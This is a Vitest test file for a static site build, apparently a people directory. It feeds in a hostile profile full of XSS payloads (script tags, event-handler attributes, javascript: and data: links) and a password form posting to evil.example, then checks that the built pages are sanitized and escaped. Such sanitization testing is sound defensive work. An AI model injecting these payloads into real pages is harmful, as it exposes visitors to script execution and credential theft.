import fs from 'node:fs';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { buildSite, copyOfFixture, htmlFilesIn, temporaryFolder } from '../support/build-site.ts';
import { elementsOf } from '../support/html-elements.ts';
import { PAGE_SCRIPT } from '../../src/lib/site/page-script.ts';

// A profile written to attack the site, by someone who can open a pull request.
const HOSTILE_PROFILE = `---
name: "Mallory <script>alert('name')</script>"
role: '"><img src=x onerror=alert(1)>'
team: core-it
askMeAbout: ["<b onmouseover=alert(1)>bold</b>", "javascript:alert(1)"]
chat: "javascript:alert('chat')"
---

Hello.

<script>alert('script tag')</script>

<p onclick="alert('onclick')">Click me.</p>

[click me](javascript:alert('javascript link'))

<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>

<div><p>Nested <a href="javascript:alert('nested')" onmouseover="alert('nested')"><b onload="alert('nested')">bold</b></a> markup</p></div>

<style>body { display: none }</style>
<form action="https://evil.example/"><input name="password"></form>
`;

let dist: string;

beforeAll(async () => {
  const content = copyOfFixture('org-elsewhere');
  fs.writeFileSync(path.join(content, 'people/mallory.md'), HOSTILE_PROFILE);
  dist = path.join(temporaryFolder('hostile'), 'dist');
  const result = await buildSite(content, dist);
  expect(result.code, result.output).toBe(0);
}, 120_000);

describe('a hostile profile', () => {
  it('runs no script: no script elements, frames or forms of its own, no event handlers, no javascript: or data: URLs', () => {
    const pages = htmlFilesIn(dist).filter((file) => fs.readFileSync(file, 'utf8').includes('Mallory'));
    expect(pages.length).toBeGreaterThanOrEqual(3);
    for (const file of pages) {
      const html = fs.readFileSync(file, 'utf8');
      const where = path.relative(dist, file);
      const elements = elementsOf(html);
      expect(
        elements.filter((e) => ['iframe', 'object', 'embed'].includes(e.tag)),
        where,
      ).toEqual([]);
      // The only scripts are the site's own (the theme memory, the directory filter), never anything from content.
      const scripts = elements.filter((e) => e.tag === 'script' && e.text !== PAGE_SCRIPT);
      expect(
        scripts.filter((e) => e.attributes.src && !e.attributes.src.startsWith('/_astro/')),
        where,
      ).toEqual([]);
      expect(
        scripts.filter((e) => /alert|Mallory/.test(e.text)),
        where,
      ).toEqual([]);
      if (!where.startsWith('people/index')) expect(scripts, where).toEqual([]);
      expect(
        elements.filter((e) => e.tag === 'form' && e.attributes.role !== 'search'),
        where,
      ).toEqual([]);
      expect(
        elements.flatMap((e) => Object.keys(e.attributes).filter((name) => name.startsWith('on'))),
        where,
      ).toEqual([]);
      const urls = elements.flatMap((e) =>
        ['href', 'src', 'action', 'srcset'].map((name) => e.attributes[name]).filter(Boolean),
      );
      expect(
        urls.filter((url) => /^\s*(javascript|data):/i.test(url!)),
        where,
      ).toEqual([]);
      expect(html, where).not.toContain('body { display: none }');
    }
  });

  it('shows the text of hostile frontmatter as text, escaped', () => {
    const profile = fs.readFileSync(path.join(dist, 'people/mallory/index.html'), 'utf8');
    expect(profile).toContain('Mallory &lt;script&gt;alert(&#39;name&#39;)&lt;/script&gt;');
    expect(profile).toContain('&quot;&gt;&lt;img src=x onerror=alert(1)&gt;');
    expect(profile).toContain('&lt;b onmouseover=alert(1)&gt;bold&lt;/b&gt;');
    expect(profile).toContain('<p>Hello.</p>');
  });
});
